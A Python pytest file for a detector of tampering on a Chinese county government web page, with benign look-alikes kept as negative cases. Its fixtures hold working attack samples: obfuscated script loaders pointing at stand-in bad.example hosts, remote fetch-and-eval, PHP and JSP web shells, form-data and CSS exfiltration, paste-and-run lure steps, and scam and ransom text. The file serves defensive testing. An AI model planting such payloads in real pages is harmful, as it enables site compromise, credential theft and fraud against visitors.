"""The relatives of what strangers had done to pages: by every place that says, loads or leads, and what is like it."""

import base64

import pytest

from tests.pages.imitations.judging import shot, violations

PAGE = """<html><head><title>云山县人民政府</title></head><body><h1><a href="/">云山县人民政府</a></h1>
<form action="/search"><input name="q" placeholder="请输入关键字"></form>
<ul><li><a href="/a/1.html">县政府召开第68次常务会议</a><span>2026-11-26</span></li></ul>
<p><a href="/u/9.doc">参保登记表</a> 咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
<p><a href="/z/1.html"><img src="/i/s.jpg" alt="乡村振兴专题"></a></p>
<p>主办：云山县人民政府 江ICP备05003311号</p></body></html>"""


def put(html: str, page: str = PAGE) -> str:
    """The page with something at its end."""
    return page.replace("</body>", f"{html}</body>")


def assert_told(page: str) -> None:
    """It is a violation whether or not the page was known before."""
    assert violations(page)
    assert violations(page, shot(PAGE))


def assert_not_accused(page: str) -> None:
    """It is none either way."""
    assert violations(page) == []
    assert violations(page, shot(PAGE)) == []


def script(text: str) -> str:
    """The page with a script at its end."""
    return put(f"<script>{text}</script>")


ADDRESS = "https://s.bad.example/x.js"
CODED = base64.b64encode(ADDRESS.encode()).decode()
_LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChild(e)"
_ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
_MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
_FRAME, _SPAN = (
    ",".join(str(ord(letter)) for letter in html)
    for html in (
        "<iframe src=http://a.bad.example/ width=100%></iframe>",
        "<span class=z>网站支持IPv6访问，欢迎您</span>",
    )
)
TOLD_AT_FIRST = {
    "a program of a stranger, run after something was done to it": script(
        "fetch('https://p.bad.example/t.txt').then(function(r){return r.text()}).then(function(t){eval(t.slice(3))})"
    ),
    "a script from a host that is new every day": script(
        "var s=document.createElement('script');s.src='//'+n(new Date)+'.top/a.js';document.head.appendChild(s)"
    ),
    "words of a trade, torn by what nobody sees": put("<b>百\u200b家\u200b乐\u200b平\u200b台 首存送彩金</b>"),
    "a frame in codes": script(f"document.write(String.fromCharCode({_FRAME}))"),
    "a worker that stays, from what was sent in": script(
        "navigator.serviceWorker.register('/attach/2026/a.png?x',{scope:'/'}).then(function(){})"
    ),
    "a stranger's picture to scan, the words around it": put(
        "<div><p>请微信扫码，填写银行卡号和余额，领取节能补贴</p><img src='https://a.bad.example/7.png'></div>"
    ),
    "an adviser who pays back": put("<div>县内项目 投500日返90<br>添加导师微信:xf_8866<br><img src='/u/1.png'></div>"),
    "a deposit to a private account": put("<p>请各企业今日前将环保押金汇至李某 个人账户，逾期停产</p>"),
    "what writes a program": put('<script language=VBScript>F="a.exe"\nD="4D5A90000300000004"</script>'),
    "what takes hold of files": put(
        '<script language=VBScript>Set f=CreateObject("Scripting.FileSystemObject")</script>'
    ),
    "a trade in the data of a script": script(
        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'\u003Ca href=\"https://a.bad.example/\"\u003E棋牌下载\u003C/a\u003E'}}"""
    ),
    "what is said when a page is handed on": script(
        "window._share={'text':'皇冠体育真人荷官在线发牌','url':''};document.title+=''"
    ),
    "a handler whose words are torn": put(
        "<svg><animate onbegin=\"top['loca'+'tion']['href']=['ht','tps:/','/a.bad.ex','ample/'].join('')\"/></svg>"
    ),
    "a program in an address, imported": put("<details open ontoggle=\"import('data:text/javascript,1')\"></details>"),
    "backwards, with quotes inside": script(
        "document.write(\">tpircs/<>'sj.x/elpmaxe.dab.s//:ptth'=crs tpircs<\".split('').reverse().join(''))"
    ),
    "a style sheet in an address that speaks": PAGE.replace(
        "</head>",
        "<link rel=stylesheet href='data:text/css;base64,"
        + base64.b64encode("h1:after{content:'百家乐开户送88'}".encode()).decode()
        + "'></head>",
    ),
    "a back door that shows": put('<%if(1){Runtime.getRuntime().exec(request.getParameter("c"));}%>'),
    "a back door of another kind": put("<?php @eval($_REQUEST['x']);?>"),
    "visitors as a weapon": script(
        "setInterval(function(){new Image().src='https://www.victim.bad.example/?'+Math.random()},20)"
    ),
    "orders out of an answer": script(
        "fetch('/resolve?name=a').then(r=>r.json()).then(j=>(0,eval)(atob(j.Answer[0].data)))"
    ),
    "a card without a form of its own": put(
        "<div><p>案件核查</p>银行卡号<input name=k>取款密码<input type=password name=m></div>"
    ),
    "frozen wealth": put("<p>民族资产解冻，缴纳工本费98元认领分红，请加QQ群 77188209 登记，严禁向公安打听</p>"),
    "a badge that leads away": put("<a href='https://a.bad.example/'><img src=/red.png alt=党政机关></a>"),
    "letter by letter, in a longer text": put("<p>欢迎百\u200b家\u200b乐\u200b园的朋友</p>"),
    "a message that nobody sees": put("<p>欢迎" + "\u200b\u200c" * 12 + "光临</p>"),
    "a friend who calls himself by a brand": put("<a href='http://a.bad.example/'>乐鱼</a>"),
    "a friend who looks for debtors": put("<a href='http://a.bad.example/'>东城讨债公司</a>"),
    "letters told by a style sheet": put(
        "<style>input[name=q][value^='a']{background:url(https://x.bad.example/a)}</style>"
    ),
    "on to what was sent in": put("<meta http-equiv=refresh content='0;url=/uploads/kb/1.html'>"),
    "on to a page in an address": put("<meta http-equiv=refresh content='0;url=data:text/html,hello'>"),
    "a card and its password": put(
        "<form action=/tools/save.asp>银行卡号<input name=c>取款密码<input type=password name=p></form>"
    ),
    "stopped card, press here": put("<div>您的社保卡已被停用，<a href='http://sb.bad.example/'>点击恢复认证</a></div>"),
    "a group for the allowance": put("<p>请扫码加入秋季补贴申领群</p>"),
    "a private account for the allowance": put("<p>请添加企业微信 bt_2026 领取惠民补贴</p>"),
    "a wallet": put("<p>赈灾捐赠 USDT：TJRabPrwbZy45sbavfcjinPJC18kjpRTv8</p>"),
    "frightened into a program": script("if(confirm('您的播放器版本过低'))location.href='/u/player.exe'"),
    "frightened into a call": script("alert('您的电脑已中毒，请联系客服 QQ 123456789')"),
    "grievance": put("<div>狗官 还我土地</div>"),
    "own page that opens another": put("<a href='/a/2.html' onclick=\"window.open('http://a.bad.example/')\">公示</a>"),
    "all links turned": script("$('a').each(function(){this.href='http://a.bad.example/'})"),
    "all links turned, of today": script(
        "document.querySelectorAll('ul a').forEach(a=>a.setAttribute('href','http://a.bad.example/'))"
    ),
    "a link that a drawing exchanges": put(
        "<svg><a><animate attributeName=href values=\"javascript:location='//a.bad.example'\"/>县长信箱</a></svg>"
    ),
    "a layer that waits for a press": put("<div popover><a href='http://a.bad.example/'>宏达建材</a></div>"),
    "one advertisement with its number": put("<p>代开餐饮、住宿发票，电话13800001111</p>"),
    "a cup in the title": PAGE.replace("<title>", "<title>世界杯买球_"),
    "an address in a template": script("const h='s.bad';" + _LOAD % "`https://${h}.${'example'}/x.js`"),
    "a drawing in an address": put(
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='location=%22//a.bad.example/%22'/>\">"
    ),
    "own name before an at sign": put("<a href='http://www.yunshan.gov.cn@203.0.113.201/login.html'>用户登录</a>"),
    "invoices for sale, out of sight": put(
        "<h1 style='text-indent:-999em;height:0;overflow:hidden'>代开发票_餐饮住宿票加V信fp7788点数优惠</h1>"
    ),
    "deposit first": put(
        "<a href='http://bt.bad.example/'>个人劳动补贴今日截止，加QQ群 7720 扫码，先交保证金后领取</a>"
    ),
    "a script that was sent in": put("<script src='/uploads/image/20240417/88417.js'></script>"),
    "links without anything in them": put("".join(f"<a href='http://s{n}.bad.example/'></a>" for n in range(3))),
    "links in a drawing of no size": put(
        "<svg width='0' height='0'><a xlink:href='http://j.bad.example/'><text>九游会</text></a></svg>"
    ),
    "a link exchanged while it is pressed": put(
        "<a href='/sb/' onmousedown=\"this.href='https://sb.bad.example/card/'\">社保查询</a>"
    ),
    "a program fetched by a control": script(
        'var x=dm.CreateObject("Microsoft.XMLHTTP","");x.Open("GET","http://198.51.100.30/a.exe",0);'
    ),
    "extortion": put("<p>此站存在严重漏洞,已被暗夜小组入侵!管理员请加QQ:100086 付费修复,否则数据公开</p>"),
    "letters that go to two": put(
        "<form action='/letter' onsubmit=\"(new Image).src='//l.bad.example/c?'+$(this).serialize()\">"
        "<input name=phone></form>"
    ),
    "a program that everybody must have": put(
        "<div><p>根据要求,请全体居民下载“云山通”APP完成实名登记</p><a href='http://198.51.100.145/yst.apk'>立即下载</a></div>"
    ),
    "a program called a document": put("<a href='/u/P020240513.docx.exe'>城乡居民参保登记表.docx</a>"),
    "a screen saver called a picture": put("<a href='/u/xc.jpg.scr'>现场照片</a>"),
    "a script called a picture": put("<script src='/upload/201809/8817.jpg'></script>"),
    "orders to paste": put("<ol><li>按下 Win + R</li><li>按 Ctrl+V 粘贴验证码</li><li>按回车完成验证</li></ol>"),
    "a signboard among friends": put("<a href='http://www.kqp.bad.example/'>开源棋牌</a>"),
    "papers for sale": put(
        "<p>专业办理各类证件:本科毕业证、学位证,先办后付款,另承接刻章、开发票业务。QQ:2800000394</p>"
    ),
    "an address in a piece of a row": script(
        "var b=['scr','ipt','//s.b','ad.exam','ple/x.js'],e=document['createEle'+'ment'](b[0]+b[1]);"
        "e['s'+'rc']=b.slice(2).join('');document.body['appendCh'+'ild'](e);"
    ),
    "noscript": put("<noscript>澳门葡京赌场</noscript>"),
    "template": put("<template><b>百家乐开户</b></template>"),
    "textarea": put("<textarea hidden>时时彩投注平台</textarea>"),
    "option": put("<select><option value='http://a.bad.example/'>葡京娱乐场</option></select>"),
    "aria-label": PAGE.replace('<a href="/">', '<a href="/" aria-label="澳门新葡京娱乐场">'),
    "placeholder": PAGE.replace("请输入关键字", "开云体育app下载"),
    "itemprop": PAGE.replace("</head>", '<meta itemprop="name" content="亚博体育官网入口"></head>'),
    "css letters": PAGE.replace("</head>", "<style>h1:after{content:'澳门金沙娱乐场'}</style></head>"),
    "css cover": PAGE.replace(
        "</head>",
        "<style>body:before{content:'';position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://a.bad.example/a.jpg)}</style></head>",
    ),
    "cover by class": put(
        "<style>.z{position:fixed;top:0;left:0;width:100%;height:100%;background:#000}</style>"
        "<div class=z>还我血汗钱</div>"
    ),
    "boast with figures": PAGE.replace("县政府召开第68次常务会议", "H4ck3d By C0brA"),
    "boast in Chinese": put("<p>贵站已被攻陷，请尽快修复</p>"),
    "frame in a frame": put("<iframe srcdoc=\"<script src='https://a.bad.example/x.js'></script>\"></iframe>"),
    "folded up": put("<details><summary></summary><a href='http://a.bad.example/'>友情站</a></details>"),
    "old Basic": put(
        '<script language=vbscript>document.write "<iframe src=http://198.51.100.9/ width=0></iframe>"</script>'
    ),
    "crossed": script(
        f"var d=[{_ROWS}],u='';for(var i=0;i<d.length;i++)u+=String.fromCharCode(d[i]^77);" + _LOAD % "u"
    ),
    "moved": script(
        f"var d='{_MOVED}',u='';for(var i=0;i<d.length;i++)u+=String.fromCharCode(d.charCodeAt(i)-1);" + _LOAD % "u"
    ),
    "handed over": script(f"(function(k){{{_LOAD % 'own(k)'}}})('{CODED}')"),
    "concat": script(_LOAD % "'https:'.concat('//','s.bad','.example','/x.js')"),
    "name of the window": script("eval(window.name)"),
    "element that loads": put(
        "<svg onload=\"var j=document.createElement('script');j.src='https://a.bad.example/f.js';document.body.append(j)\"></svg>"
    ),
    "behind the end": PAGE + "<script src=http://a.bad.example/x.js></script>",
    "number": put("<script src=http://203.0.113.77/x.js></script>"),
    "letters in code": put(
        '<script src="' + "".join(f"&#{ord(letter)};" for letter in "//s.bad.example/x.js") + '"></script>'
    ),
    "feigned library": put("<!--[if IE]><script src='http://ie.html5shiv-cdn.example/r.js'></script><![endif]-->"),
    "feigned office": put("<a href='http://www.sq777.example/'>石桥区人民政府</a>"),
    "claim": put("<a href='http://ld.bad.example/h5'>关于领取2026年度个人劳动综合补贴的通知</a>"),
    "letters elsewhere": put(
        "<form action='http://198.51.100.2/s.php' method=post><input name=mobile>"
        "<textarea name=content></textarea></form>"
    ),
    "copied forms": script("$('#f').submit(function(){new Image().src='http://203.0.113.3/c?'+$(this).serialize()})"),
    "another tongue": PAGE.replace(
        "</head>", '<meta name="description" content="ルイヴィトン 財布 新作 送料無料"></head>'
    ),
    "page in another tongue": PAGE.replace(
        "</head>", '<link rel="alternate" hreflang="ja" href="https://a.bad.example/"></head>'
    ),
    "words looked for": put("<p><a href='/s?q=1'>世界杯在哪买球</a> <a href='/s?q=2'>约炮软件</a></p>"),
    "file of a feigned host": put("<script src='http://www.yunshan-gov.example/jquery.js'></script>"),
    "press anywhere": PAGE.replace("<body>", "<body onclick=\"window.open('http://a.bad.example/')\">"),
    "clipboard": script(
        "document.addEventListener('click',function(){t.value='打开支付宝搜索“559210388”领红包';document.execCommand('copy')})"
    ),
    "frame that fills a layer": put(
        '<div style="position:fixed;top:0;left:0;right:0;bottom:0"><iframe src="http://a.bad.example/" '
        'style="width:100%;height:100%"></iframe></div>'
    ),
    "ransom": put("<p>服务器数据已被加密，72小时内支付 0.8 BTC 至 bc1qabcdefgh2345，否则公开</p>"),
    "boast of a style sheet": PAGE.replace(
        "</head>", "<style>h1:after{content:'官网已被黑 hacked by 404'}</style></head>"
    ),
    "broken up": put("<p>威\u200b尼\u200b斯\u200b人\u200b城</p>"),
    "code to scan": put(
        "<div><p>劳动补贴申领，请扫码登记</p><img src='https://a.bad.example/q.png' alt='扫码认证'></div>"
    ),
    "program that is needed": put(
        "<div><p>浏览器版本过低，请立即更新</p><a href='http://dl.bad.example/flash.exe'>更新</a></div>"
    ),
    "two offers": put("<p>代开各类发票 税点低</p><p>黑户贷款 当天放款</p>"),
    "list in a script": script("var L=[{url:'https://a.bad.example/',title:'县政府召开第68次常务会议'}]"),
}
"""By what was done."""
TOLD_AGAINST_THE_BASELINE = {
    "a telephone that became a mobile one": PAGE.replace("0795-6126655", "17059110382"),
    "a picture that leads to a stranger": PAGE.replace('<a href="/z/1.html"><img', '<a href="//zt.bad.example/"><img'),
    "somebody's card to pay into": put(
        "<li>灾害捐款公告：户名救助服务部 账号6217003300012345678<span>2026/07/06</span></li>"
    ),
    "a worker that stays, kept among texts": script(
        "navigator.serviceWorker.register('/cms/202402/f3c9.js',{scope:'/'})"
    ),
    "markup in the data of a script": script(
        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<img src=\"https://a.bad.example/a.gif\">'}}"""
    ),
    "a document that became an archive": put("<a href=/u/9.rar>参保登记表</a>"),
    "a worker whose program takes from a stranger": script(
        "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://a.bad.example/w.js')\"])))"
    ),
    "another place from where lists come": PAGE.replace(
        "</body>", "<script>var CFG={api:'https://api.bad.example/hot'};load(CFG.api)</script></body>"
    ),
    "a host that is new at every visit": script("var n=+new Date;f('//'+n.toString(36)+'.bad.example/a.js')"),
    "a program for telephones of one maker": put(
        "<a href='itms-services://?action=download-manifest&url=https://d.bad.example/m.plist'>苹果版</a>"
    ),
    "a stranger who is told of each press": PAGE.replace(
        '<a href="/a/1.html">', "<a ping='https://p.bad.example/' href=/a/1.html>"
    ),
    "a notice that is an archive elsewhere": put("<a href='http://d.bad.example/'>关于报送统计报表的通知.zip</a>"),
    "a float that leads away": put(
        "<div style='position:absolute;left:0'><a href='http://a.bad.example/'><img src=/u/l.gif></a></div>"
    ),
    "a number at a bank": put("<p>捐款：工商银行 6222021234567890123</p>"),
    "a fine to a private purse": put("<p>罚款缴纳请转支付宝 fk2026@mail.example</p>"),
    "another account, with a dash": put("<p>户名：惠民信息服务有限公司　账号：6230-910188022417735</p>"),
    "a counter that is not the vendor's": script(
        "var p='http://';document.write(unescape(\"%3Cscript src='\""
        '+p+"hm.baidu.com.bad.example/h.js\'%3E%3C/script%3E"))'
    ),
    "a vendor's counter with a program of its own": script(
        "var p='http://';document.write(unescape(\"%3Cscript src='\"+p+\"hm.baidu.com/h.js'%3E%3C/script%3E"
        '%3Cscript%3Eeval(name)%3C/script%3E"))'
    ),
    "a vendor's counter and another": script(
        "var p='http://';document.write(unescape(\"%3Cscript src='\"+p+\"hm.baidu.com/h.js'%3E%3C/script%3E"
        '%3Cscript src=\'"+p+"tj.bad.example/h.js\'%3E%3C/script%3E"))'
    ),
    "a code beside an alphabet": script(
        "var c=[60,98,62],s='';for(var i=0;i<3;i++){s+=String.fromCharCode(c[i])}"
        "String.fromCharCode(65+i);document.write(s)"
    ),
    "searchers' visitors, sent on by a name that goes on": script(
        "var r=document.referrer,x='.bad.example';if(r.indexOf('baidu')>0){location.replace('http://www.yunshan.gov.cn'+x)}"
    ),
    "notice elsewhere": put("<a href='http://a.bad.example/'>关于开展2026年度职称评审的通知</a>"),
    "mobile for the office": PAGE.replace("0795-6126655", "17099990431"),
    "another town": PAGE.replace("0795-6126655", "0592-6126655"),
    "private mail": PAGE.replace("bgs@yunshan.gov.cn", "ysbgs@mail.example"),
    "account to pay into": put("<p>缴费账号：6222020200112233445</p>"),
    "account after account": put("<p>账　号：8201 2600 0087 6543 210</p>"),
    "called away": put("<p>合作联系 TG:@boss88</p>"),
}
HONEST = {
    "a heading that was pasted together": put("<h2>\ufeff云\u200b山\u200b要\u200b闻</h2>"),
    "an office's account to pay into": put(
        "<li>灾害捐款公告：户名云山县红十字会 账号43001500061050001111<span>2026/07/06</span></li>"
    ),
    "a line of text in codes": script(f"document.write(String.fromCharCode({_SPAN}))"),
    "a script from the own host, put together": script(
        "var s=document.createElement('script');s.src='//'+location.host+'/a.js';document.head.appendChild(s)"
    ),
    "counters of a searcher by two ways": script(
        "var s=document.createElement('script');s.src='//'+(p?'zz':'push')+'.zhanzhang.baidu.com/push.js';f(s)"
    ),
    "what the own place answers is read": script(
        "fetch('/api/notice.json').then(r=>r.json()).then(t=>{document.title=t.title||document.title})"
    ),
    "another picture that leads to the own pages": PAGE.replace("/z/1.html", "/z/2.html"),
    "the number of the hotline alone": PAGE.replace("0795-6126655", "0795-6126655 热线电话：12345"),
    "a worker of its own that stays": script(
        "if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js?v=2',{scope:'/'})}"
    ),
    "a worker that keeps time": script(
        'var w=new Worker(URL.createObjectURL(new Blob(["setInterval(function(){postMessage(1)},1000)"])))'
    ),
    "a mark where a line may break": put("<p>云山\u200b县\u200b人民政府\u200b欢迎您\u200c</p>"),
    "a warning in a page that is all one form": PAGE.replace("<body>", "<body><form action=/a.aspx>").replace(
        "</body>",
        "<p>凡要求填写银行卡号、取款密码的都是诈骗</p>账号<input name=u>密码<input type=password name=p></form></body>",
    ),
    "data with markup of its own": script(
        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<a href=\"/zb/\">征兵报名</a>'}}"""
    ),
    "words kept out": script("var 敏感词=['百家乐开户','时时彩平台'];function check(t){return 敏感词.indexOf(t)<0}"),
    "an address written backwards": script("document.write('nc.vog.nahsnuy@sgb：箱邮'.split('').reverse().join(''))"),
    "a badge of the registry": put("<a href='http://bszs.conac.cn/sitename'><img src=/red.png alt=党政机关></a>"),
    "a warning of private accounts": put("<p>谨防有人冒充我局，要求把保证金汇至个人账户</p>"),
    "pictures that change": script(
        "var p=['/1.jpg','/2.jpg'],k=0;setInterval(function(){new Image().src=p[k++%2]},50)"
    ),
    "a sheet in an address that mourns": PAGE.replace(
        "</head>",
        "<link rel=stylesheet href='data:text/css;base64,"
        + base64.b64encode(b"html{filter:grayscale(100%)}").decode()
        + "'></head>",
    ),
    "code of a server that was left over": put("<%@ page language='java'%><%=new java.util.Date()%>"),
    "the day of the week, of old": put(
        '<script language=VBScript>document.write "今天是" & WeekdayName(Weekday(Date))</script>'
    ),
    "settings with a place of its own": script("var CFG={api:'/api/hot',host:'http://www.yunshan.gov.cn/'};load(CFG)"),
    "a page that has moved": put("<meta http-equiv=refresh content='300;url=/index.html'>"),
    "a card of the office's own": put(
        "<form action=/sbk/login>社保卡号<input name=c>查询密码<input type=password name=p>验证码<input name=y></form>"
    ),
    "a float of its own": put("<div style='position:absolute;left:0'><a href='/zt/'><img src=/u/l.gif></a></div>"),
    "a warning of groups and wallets": put(
        "<p>谨防诈骗：凡要求扫码加入补贴申领群、添加微信领取补贴、向虚拟币地址转账的均为诈骗。</p>"
    ),
    "an own account to follow": put("<p>关注“云山发布”微信公众号，领取电子消费券</p><p>咨询QQ：800123456</p>"),
    "history and law": put("<p>“打倒土豪”标语墙保护工程完工</p><p>帮助农民工讨回血汗钱</p>"),
    "cups and exams": put("<p>女子世界杯观赛提示</p><p>公务员考试试题保密工作会议</p><p>中考真题解析讲座</p>"),
    "news behind a press that is counted": put(
        "<a href='/a/2.html' onclick=\"_hmt.push(['_trackEvent','a','http://www.yunshan.gov.cn/a/2.html'])\">公示</a>"
    ),
    "own links, all opened apart": script(
        "$('a[href^=\"http\"]').attr('target','_blank');$('.sj a').attr('href','/xj/')"
    ),
    "a friend who sells": put(
        "<a href='http://jc.partner.example/'>宏达建材</a><a href='http://x.partner.example/'>亚博园区</a>"
    ),
    "a press to register at an office": put(
        "<div>养老保险待遇资格认证<a href='http://si.12333.gov.cn/'>立即认证</a></div>"
    ),
    "a browser that is too old": script("if(!window.JSON){alert('您的浏览器版本过低，建议升级后访问')}"),
    "hosts that end as programs do": put(
        "<a href='http://www.pdf.com'>电子书</a><a href='http://www.txt.com/?a=b'>书</a>"
    ),
    "a counter that is asked with a picture's name": put("<script src='/tj.jsp?pic=a.gif'></script>"),
    "invoices at the tax office": put("<p>税务局代开发票办事指南</p><a href='/bs/'>个体户代开增值税发票</a>"),
    "an own script with its day": put(
        "<script src='/js/20240417/site.js'></script><script src='/upload/js/a.js'></script>"
    ),
    "links drawn by their class": put(
        "".join(f"<a class='s{n}' href='http://s{n}.shop.example/'></a>" for n in range(4))
    ),
    "an empty link left behind": put("<a href='http://old.partner.example/'></a><a name=n1></a><a name=n2></a>"),
    "links that are pictures": put(
        "".join(f"<a href='http://p{n}.partner.example/'><img src='/l{n}.png'></a>" for n in range(4))
    ),
    "a press that is counted": put("<a href='/sb/' onmousedown=\"_hmt.push(['_trackEvent','sb'])\">社保查询</a>"),
    "a form that is looked through": put(
        "<form action='/letter' onsubmit=\"if(!this.phone.value){alert('请填');return !1}\"><input name=phone></form>"
    ),
    "a control of old": script('var x;if(window.ActiveXObject){x=new ActiveXObject("Microsoft.XMLHTTP")}'),
    "news of a break-in": put("<p>警方通报：某公司服务器已被黑客入侵，管理员应及时修补漏洞，防范勒索</p>"),
    "a program that is called one": put("<a href='/u/setup.exe'>下载安全控件 setup.exe</a>"),
    "a document of its own name": put("<a href='/u/com.exe.docx'>关于.exe文件防范的通知.docx</a>"),
    "keys that help": put("<p>按 Ctrl+D 收藏本站，按 Ctrl + F5 刷新，Win+R 打开运行</p>"),
    "a room of the old": put("<p>活动室：书画、休闲棋牌</p><a href='/hd/'>老年棋牌</a>"),
    "a warning of sellers of papers": put("<p>凡称“先办后付款”、代办毕业证的均为诈骗，请拨打96110举报。</p>"),
    "a vendor's counter as it was handed on for years": script(
        'var p=(("https:"==document.location.protocol)?" https://":" http://");'
        'document.write(unescape("%3Cscript src=\'"'
        "+p+\"hm.baidu.com/h.js%3Fab12' type='text/javascript'%3E%3C/script%3E\"));"
    ),
    "another vendor's, with a place for its picture": script(
        'var cnzz_protocol=(("https:"==document.location.protocol)?"https://":"http://");'
        "document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E"
        '%3Cscript src=\'"+cnzz_protocol+"s11.cnzz.com/z_stat.php%3Fid%3D1\'%3E%3C/script%3E"));'
    ),
    "an alphabet to look things up by": script(
        "var s='';for(var i=0;i<26;i++){s+='<a href=\"/az.html?c='+String.fromCharCode(65+i)+'\">'"
        "+String.fromCharCode(65+i)+'</a>'}document.getElementById('az').innerHTML=s"
    ),
    "counts who comes by a searcher, and leads to its own new address": script(
        "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){document.cookie='from=search;path=/'}"
        "if(location.hostname=='yunshan.gov.cn'){location.replace('http://www.yunshan.gov.cn'+location.pathname)}"
    ),
    "own decoder of an address": script(
        "(function(d,k){if(!window.atob)return;var a=d.createElement('a');a.href='mailto:'+window.atob(k);"
        "d.body.appendChild(a)})"
        f"(document,'{base64.b64encode(b'bgs@yunshan.gov.cn').decode()}')"
    ),
    "another number of the same town": PAGE.replace("0795-6126655", "0795-6126656"),
    "hotline": PAGE.replace("0795-6126655", "12345"),
    "closed for work": "<html><head><title>云山县政府网 - 系统维护</title></head><body><h1>网站升级维护公告</h1>"
    "<p>因检修，暂停访问至28日6:00。</p><p>江ICP备05003311号</p></body></html>",
    "notice that can be closed": put(
        "<div id=tc style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'>停水通知"
        "<a onclick=\"document.getElementById('tc').style.display='none'\">关闭</a></div>"
    ),
    "mourning": PAGE.replace("</head>", "<style>html{filter:grayscale(100%)}</style></head>"),
    "words of those who fight it": PAGE.replace(
        '<a href="/">', '<a href="/" title="我县打击网络赌博专项行动，严查六合彩">'
    ),
    "late opening hours": put("<p>县政务服务中心12月1日起实行延时服务、上门服务，娱乐场所管理条例公开征求意见。</p>"),
    "option to an office": put("<select><option value='http://www.mnr.gov.cn/'>自然资源部</option></select>"),
    "letters to the office": put(
        "<form action=/mail method=post><input name=mobile><textarea name=c></textarea></form>"
    ),
    "list in a script": script("var L=[{url:'https://www.news.example/',title:'省报：我县做好油茶文章'}]"),
    "advice on browsers": put(
        "<div><p>浏览器版本过低，请升级</p><a href='https://browser.360.cn/se/'>升级浏览器</a></div>"
    ),
    "source when copied": script(
        "document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','——转载请注明来源')})"
    ),
    "word with a break": put("<p>县人民\u200b医院</p>"),
    "statistics behind the end": PAGE + "<script src=https://hm.baidu.com/hm.js?1></script>",
}


@pytest.mark.parametrize("page", TOLD_AT_FIRST.values(), ids=TOLD_AT_FIRST)
def test_it_is_told_at_first_sight(page: str) -> None:
    assert violations(page)


@pytest.mark.parametrize("page", [*TOLD_AT_FIRST.values(), *TOLD_AGAINST_THE_BASELINE.values()])
def test_it_is_told_against_the_baseline(page: str) -> None:
    assert violations(page, shot(PAGE))


@pytest.mark.parametrize("page", [PAGE, *HONEST.values()], ids=["the page", *HONEST])
def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
    assert_not_accused(page)
